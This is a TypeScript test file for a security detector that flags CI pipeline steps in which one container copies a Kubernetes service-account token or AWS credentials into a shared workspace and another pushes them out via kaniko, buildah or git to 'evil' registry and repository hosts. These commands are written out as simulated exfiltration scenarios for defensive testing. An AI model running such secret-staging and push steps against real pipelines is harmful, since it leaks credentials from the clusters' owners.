/**
 * Tekton and Argo Workflows run a task's steps as containers of one pod sharing a workspace (red-team
 * review): step 1 copies the service-account token into the workspace, step 2 pushes (kaniko, buildah, `git
 * push`) and reads only the copy, whose name says nothing. State is per container, so that push was `low`.
 * A sensitive file copied to an absolute path is remembered for the pod, and another of its containers
 * reading the copy reads a secret (src/correlate/pod-copies.ts).
 */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/model/alert.js';
import { runResolved, Scenario } from './builder.js';

const GHCR = '140.82.121.33';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
type Pusher = 'kaniko' | 'buildah' | 'git';
const PUSHERS: Record<Pusher, [string, string]> = {
  kaniko: ['/kaniko/executor', '--context dir:///workspace/source --destination ghcr.io/evil/x:1'],
  buildah: ['/usr/bin/buildah', 'push ghcr.io/evil/x:1'],
  git: ['/usr/bin/git', 'push https://github.com/evil/x main'],
};

const summary = (alerts: readonly Alert[]) =>
  alerts.map((a) => [a.rule, a.severity, a.container.name, a.push.tool, a.reads.sensitive]);

interface Steps {
  source?: 'tetragon' | 'falco';
  pusher?: Pusher;
  /** Step 1's copy (`cp ARGS`, or `binary ARGS`). */
  copy?: string;
  binary?: string;
  /** What step 2 reads before pushing. */
  reads?: string[];
  /** Step 2 runs in another pod (same namespace and node). */
  otherPod?: boolean;
}

function steps(o: Steps = {}) {
  const s = new Scenario({ source: o.source ?? 'tetragon' });
  const pod = 'build-run-7x2-pod';
  const step1 = s.container({ namespace: 'ci', pod, name: 'step-fetch', image: 'docker.io/library/alpine:3' });
  const step2 = s.container({
    namespace: 'ci',
    pod: o.otherPod ? 'other-run-pod' : pod,
    name: 'step-build',
    image: 'gcr.io/kaniko-project/executor:v1.23.0',
  });
  const sh1 = s.init(step1, '/tekton/bin/entrypoint', '-post_file /tekton/run/0/out -entrypoint /bin/sh');
  const cp = s.exec(step1, o.binary ?? '/bin/cp', o.copy ?? `${TOKEN} /workspace/source/`, { parent: sh1 });
  s.read(cp, TOKEN, 1_000).exit(cp).exit(sh1).wait(3_000);
  const sh2 = s.init(step2, '/tekton/bin/entrypoint', '-wait_file /tekton/run/0/out -entrypoint /bin/sh');
  const [binary, args] = PUSHERS[o.pusher ?? 'kaniko'];
  const p = s.exec(step2, binary, args, { parent: sh2 });
  for (const path of o.reads ?? ['/workspace/source/token', '/workspace/source/Dockerfile']) s.read(p, path, 1_000);
  s.connect(p, GHCR, 443).send(p, GHCR, 443, 200_000).wait(2_000).exit(p).wait(60_000);
  return s.events;
}

describe("a secret a pod's step copied into the workspace, pushed by another step", () => {
  for (const source of ['tetragon', 'falco'] as const)
    it(`is a sensitive read in the pushing step (${source})`, async () => {
      for (const pusher of ['kaniko', 'buildah', 'git'] as const)
        expect(summary((await runResolved(steps({ source, pusher }))).alerts), pusher).toEqual([
          ['sensitive-read-then-push', 'high', 'step-build', pusher, ['/workspace/source/token']],
        ]);
    });

  it('so is a copy under another name, a directory copied whole, and a move', async () => {
    for (const [copy, read, binary] of [
      [`${TOKEN} /workspace/source/ctx/t.txt`, '/workspace/source/ctx/t.txt', '/bin/cp'],
      ['-r /var/run/secrets/kubernetes.io/serviceaccount /workspace/sa', '/workspace/sa/token', '/bin/cp'],
      [
        '-r /var/run/secrets/kubernetes.io/serviceaccount /workspace/ctx',
        '/workspace/ctx/serviceaccount/token',
        '/bin/cp',
      ],
      [`-t /workspace/source ${TOKEN}`, '/workspace/source/token', '/bin/cp'],
      [`${TOKEN} /workspace/source`, '/workspace/source/token', '/bin/cp'],
      ['-a /var/run/secrets/kubernetes.io/serviceaccount /workspace/sa', '/workspace/sa/token', '/bin/cp'],
      ['/root/.aws /workspace/aws', '/workspace/aws/credentials', '/bin/mv'],
      ['/root/.aws/credentials /workspace/source/aws', '/workspace/source/aws', '/bin/mv'],
      ['ln /root/.aws/credentials /workspace/source/c', '/workspace/source/c', '/bin/busybox'],
      // Found by review: install was no copy.
      [`-m 600 -o 65532 ${TOKEN} /workspace/source/t`, '/workspace/source/t', '/usr/bin/install'],
    ] as const)
      expect(summary((await runResolved(steps({ copy, reads: [read], binary }))).alerts), copy).toEqual([
        ['sensitive-read-then-push', 'high', 'step-build', 'kaniko', [read]],
      ]);
  });

  it("a bulk an earlier step staged in the workspace counts in the pushing step's own reads", async () => {
    const reads = Array.from({ length: 70 }, (_, i) => `/workspace/source/dump/part-${i}.bin`);
    const events = steps({ copy: '-r /srv/db /workspace/source/dump', reads }).map((e) =>
      e.kind === 'file' && e.file.path.startsWith('/workspace/')
        ? { ...e, file: { ...e.file, bytes: 1024 * 1024 } }
        : e,
    );
    expect(summary((await runResolved(events)).alerts)).toEqual([
      ['bulk-read-then-push', 'high', 'step-build', 'kaniko', []],
    ]);
  });

  it('stays low for the workspace’s other files, another pod, a relative copy or a file that is no secret', async () => {
    for (const o of [
      { reads: ['/workspace/source/Dockerfile', '/workspace/source/main.go'] },
      { otherPod: true },
      { copy: `${TOKEN} token`, reads: ['/workspace/source/token'] },
      { copy: '/etc/os-release /workspace/source/token' },
      // Found by review: a file copied into the workspace's directory named without a trailing slash made
      // every file below it a secret (cp copies no directory without -r, install none at all).
      { copy: `${TOKEN} /workspace/source`, reads: ['/workspace/source/Dockerfile', '/workspace/source/main.go'] },
      {
        binary: '/usr/bin/install',
        copy: `-m 600 ${TOKEN} /workspace/source`,
        reads: ['/workspace/source/Dockerfile', '/workspace/source/main.go'],
      },
    ] satisfies Steps[])
      expect(summary((await runResolved(steps(o))).alerts), JSON.stringify(o)).toEqual([
        ['push-without-reads', 'low', 'step-build', 'kaniko', []],
      ]);
  });
});
